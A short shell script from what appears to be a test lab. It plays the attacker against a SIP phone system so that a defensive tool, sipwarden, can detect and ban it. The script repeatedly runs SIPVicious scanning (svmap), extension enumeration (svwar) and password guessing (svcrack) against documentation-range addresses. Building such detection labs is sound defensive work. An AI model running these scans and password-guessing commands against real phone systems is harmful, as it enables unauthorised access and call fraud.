#!/bin/sh
# The lab's attacker (192.0.2.66): what a SIPVicious run against a PBX looks
# like. sipwarden sees it over HEP (scanner user agent "friendly-scanner",
# extension scan, then digest failures) and bans the address: once banned,
# the later steps time out because the firewall drops them.
set -u
target=${TARGET:-192.0.2.2}
echo "attacker: waiting for the office to register"
sleep "${DELAY:-60}"
while :; do
  echo "attacker: svmap (OPTIONS scan)"
  svmap -p 5060,5080 "$target"
  echo "attacker: svwar (extension scan, REGISTER)"
  svwar -m REGISTER -e 1000-1060 "$target"
  echo "attacker: svcrack (password guessing for 1001)"
  svcrack -u 1001 -r 1-60 "$target"
  echo "attacker: sleeping; banned? try: docker compose exec sipwarden /usr/local/bin/sipwarden bans list"
  sleep "${INTERVAL:-900}"
done
